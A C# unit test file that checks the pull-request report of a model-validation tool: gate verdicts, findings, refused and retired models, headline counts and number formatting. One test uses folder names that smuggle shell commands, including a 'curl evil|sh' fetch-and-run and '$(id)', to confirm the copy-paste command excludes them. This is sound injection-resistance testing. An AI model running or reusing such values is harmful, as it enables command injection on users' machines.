using ModelOps.Domain.Gates;
using ModelOps.Domain.Manifests;
using ModelOps.Domain.Metrics;
using ModelOps.Domain.Reporting;
using ModelOps.Domain.Tests.Kit;
using ModelOps.Domain.Verdicts;
using ModelOps.TestKit;

namespace ModelOps.Domain.Tests.Reporting;

/// <summary>What a person reads under a pull request.</summary>
public sealed class PullRequestReportTests
{
    private static readonly Gate[] Gates =
    [
        SampleVerdict.Gate(Metric.RocAuc, 0.9), SampleVerdict.Gate(Metric.Accuracy, 0.85), SampleVerdict.NoWorse(Metric.LogLoss, 0.01),
        SampleVerdict.Gate(Metric.LatencyP99, 20, GateSeverity.Warn),
    ];

    [Test]
    public void Passed() => AssertReads("passed", SampleVerdict.On(SampleVerdict.Judged(SampleReport.Of(0.97), SampleVerdict.Main, Gates)));

    [Test]
    public void A_new_model_passed() =>
        AssertReads("passed-new-model", SampleVerdict.On(SampleVerdict.Judged(SampleReport.Of(0.97), new Baseline.None(), Gates)));

    [Test]
    public void Passed_without_gates() =>
        AssertReads("passed-without-gates", SampleVerdict.On(SampleVerdict.Judged(SampleReport.Of(0.97), SampleVerdict.Main)));

    [Test]
    public void Passed_with_a_warning() =>
        AssertReads("passed-with-warning", SampleVerdict.On(SampleVerdict.Judged(SampleReport.Of(0.97, latency: 0.3), SampleVerdict.Main, Gates)));

    [Test]
    public void Blocked_by_gates() =>
        AssertReads("blocked-by-gates", SampleVerdict.On(SampleVerdict.Judged(SampleReport.Of(0.89998, 0.7, 0.5), SampleVerdict.Main, Gates)));

    [Test]
    public void Blocked_by_a_metric_without_a_value() =>
        AssertReads("blocked-undefined", SampleVerdict.On(SampleVerdict.Judged(SampleReport.Of(null), SampleVerdict.Main, Gates)));

    [Test]
    public void A_gate_on_what_was_not_measured_is_shown()
    {
        var report = PullRequestReport.Render(SampleVerdict.On(SampleVerdict.Judged(SampleReport.Of(0.97) with { Machine = [] }, SampleVerdict.Main, Gates)));
        Assert.That(report, Does.Contain("\n| latency_p99_ms | 12.3 ms | n/a | n/a | ≤ 20 | ⚠️ misses:\u200B The report has no latency\\_p99\\_ms\\. |\n"));
    }

    [Test]
    public void Blocked_by_a_finding() => AssertReads("blocked-by-finding", SampleVerdict.On(SampleVerdict.Judged(SampleReport.Of(0.97), SampleVerdict.Main, Gates) with
    {
        Findings =
        [
            new Finding("gates", "This change alters the gates. Those of the base branch were used here; the new ones bind from its merge on.", FindingEffect.NeedsAcceptance),
            new Finding("reference-data", "The model changes together with what it is held against: reference data, target column or labels. So nothing was compared. Change those in a pull request of its own first.", FindingEffect.Blocks),
        ],
    }));

    [Test]
    public void The_baseline_could_not_be_measured() => AssertReads("not-comparable", SampleVerdict.On(
        SampleVerdict.Judged(SampleReport.Of(0.97), new Baseline.NotComparable("main", "There is no column 'radius', which model.yaml names."), Gates) with
        {
            Findings = [new Finding("not-comparable", "The version on main could not be measured on these rows, so that nothing was compared: There is no column 'radius', which model.yaml names.", FindingEffect.NeedsAcceptance)],
        }));

    [Test]
    public void A_model_could_not_be_measured() => AssertReads("refused", SampleVerdict.On(new ModelVerdict.Refused(SampleVerdict.Folder,
    [
        new RegistryProblem("model.yaml", 3, 8, "'owners' names nobody. Name who answers for it, for example [\"@octocat\"]."),
        RegistryProblem.InFile("reference/test.parquet", "There is no column 'radius', which model.yaml names. The columns are: texture, <b>area</b>."),
    ])));

    [Test]
    public void A_model_leaves_the_registry() => AssertReads("retired", SampleVerdict.On(new ModelVerdict.Retired(SampleVerdict.Folder)));

    [Test]
    public void The_policy_cannot_be_used() => AssertReads("policy-problem", SampleVerdict.Unusable(
        new RegistryProblem("registry.yaml", 4, 1, "The file has no key 'owner'. Did you mean 'owners'?"),
        new RegistryProblem("registry.yaml", 2, 15, "'environments' names none. Name at least one, for example [production].")));

    [Test]
    public void No_model_changes() => AssertReads("no-model", SampleVerdict.On());

    [Test]
    public void Several_models_of_several_fates() => AssertReads("several", SampleVerdict.On(
        SampleVerdict.Judged("models/mail/good", SampleReport.Of(0.97), SampleVerdict.Main, Gates),
        new ModelVerdict.Retired("models/mail/old"),
        SampleVerdict.Judged("models/mail/bad", SampleReport.Of(0.5), SampleVerdict.Main, Gates),
        new ModelVerdict.Refused("models/mail/broken", [RegistryProblem.InFile("model.onnx", "The file is not there, and model.yaml names it. Add it, or correct the name.")])));

    [Test]
    public void A_validation_is_under_way() => Snapshot.Matches("pending", PullRequestReport.RenderPending(SampleVerdict.Head));

    [Test]
    public void A_validation_failed() => Snapshot.Matches("failure", PullRequestReport.RenderFailure(
        SampleVerdict.Head, "The pull request has no commit in common with `main`. The author can rebase it onto that branch."));

    [Test]
    public void What_was_pushed_past_a_pull_request_does_not_serve()
    {
        var report = PullRequestReport.Render(SampleVerdict.On(SampleVerdict.Judged(SampleReport.Of(0.5), SampleVerdict.Main, Gates)));
        Snapshot.Matches("refusal-issue", $"{RefusalIssue.Title("spam-filter")}\n\n{RefusalIssue.Body(SampleVerdict.Base, report)}");
    }

    [Test]
    public void The_headline_counts_each_kind()
    {
        var leaving = new ModelVerdict.Retired("models/mail/old");
        var retired = leaving with { Leaving = leaving.Leaving with { Acceptance = new Consent("mona", DateTimeOffset.UnixEpoch, null) } };
        var judged = SampleVerdict.Judged(SampleReport.Of(0.97, latency: 0.3), new Baseline.None(), Gates);
        using (Assert.EnterMultipleScope())
        {
            Assert.That(PullRequestReport.Title(SampleVerdict.On(judged, retired)), Is.EqualTo("✅ Passed: 2 of 4 gates hold for spam-filter, 1 warns, 1 does not apply"));
            Assert.That(PullRequestReport.Title(SampleVerdict.On(leaving, leaving)), Is.EqualTo("✋ Waits for an owner: old, old leave the registry, 2 findings need acceptance"));
            Assert.That(PullRequestReport.Title(SampleVerdict.On(judged, judged)), Is.EqualTo("✅ Passed: 4 of 8 gates hold for spam-filter, spam-filter, 2 warn, 2 do not apply"));
            Assert.That(PullRequestReport.Title(SampleVerdict.On(retired, retired)), Is.EqualTo("✅ Passed: old, old leave the registry"));
            Assert.That(PullRequestReport.Title(SampleVerdict.On(retired, retired, retired, retired, retired)), Is.EqualTo("✅ Passed: old, old, old and 2 more leave the registry"));
            Assert.That(PullRequestReport.Title(SampleVerdict.On(SampleVerdict.Judged(SampleReport.Of(0.97), SampleVerdict.Main, Gates[0]))), Is.EqualTo("✅ Passed: 1 of 1 gate holds for spam-filter"));
        }
    }

    [Test]
    public void The_command_to_copy_names_no_folder_that_means_something_to_a_shell()
    {
        var report = PullRequestReport.Render(SampleVerdict.On(
            new ModelVerdict.Refused("models/a;curl evil|sh", []), new ModelVerdict.Refused("models/$(id)", []),
            new ModelVerdict.Refused("--help", []), new ModelVerdict.Refused("models/fine", [])));
        Assert.That(report.Split('\n')[2], Is.EqualTo("The author can mend it and push again. To see this verdict before pushing: `modelops validate models/fine`"));
    }

    [TestCase(0.97 - 0.96999, "less than 0.0001")]
    [TestCase(0.0002, "0.0002")]
    [TestCase(-0.0002, "0.0002")]
    public void A_missed_gate_is_never_missed_by_nothing(double difference, string text) =>
        Assert.That(FigureText.Distance(Metric.RocAuc, difference), Is.EqualTo(text));

    [TestCase("roc_auc", 0.00001, "0.0000")]
    [TestCase("roc_auc", -0.00001, "0.0000")]
    [TestCase("roc_auc", 0.0123, "+0.0123")]
    [TestCase("roc_auc", -0.0123, "−0.0123")]
    [TestCase("latency_p99_ms", -0.0001, "0.000 ms")]
    [TestCase("latency_p99_ms", 12.34, "+12.3 ms")]
    public void A_difference_has_a_sign_unless_it_is_too_small_to_show(string metric, double difference, string text) =>
        Assert.That(FigureText.Difference(Metric.ByName[metric], difference), Is.EqualTo(text));

    [Test]
    public void The_page_with_all_that_was_measured_is_linked_below()
    {
        var verdict = SampleVerdict.On(SampleVerdict.Judged(SampleReport.Of(0.97), SampleVerdict.Main, Gates));
        var linked = PullRequestReport.Render(verdict, new Uri("https://bot.example/validations/7"));
        Assert.That(linked, Does.Contain(" of the base branch. [All that was measured](https://bot.example/validations/7).</sub>\n"));
        Assert.That(linked.Replace(" [All that was measured](https://bot.example/validations/7).", "", StringComparison.Ordinal), Is.EqualTo(PullRequestReport.Render(verdict)));
    }

    private static void AssertReads(string name, PullRequestVerdict verdict) => Snapshot.Matches(name, PullRequestReport.Render(verdict));
}
